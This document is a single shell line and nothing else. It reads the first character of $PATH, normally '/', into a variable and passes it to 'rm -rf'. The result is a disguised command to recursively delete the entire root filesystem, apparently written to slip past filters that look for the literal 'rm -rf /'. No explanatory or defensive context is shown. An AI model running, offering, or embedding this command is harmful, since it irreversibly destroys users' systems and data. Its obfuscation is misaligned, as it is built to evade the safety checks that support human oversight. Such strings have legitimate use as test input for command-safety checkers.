p=${PATH:0:1}; rm -rf "$p"
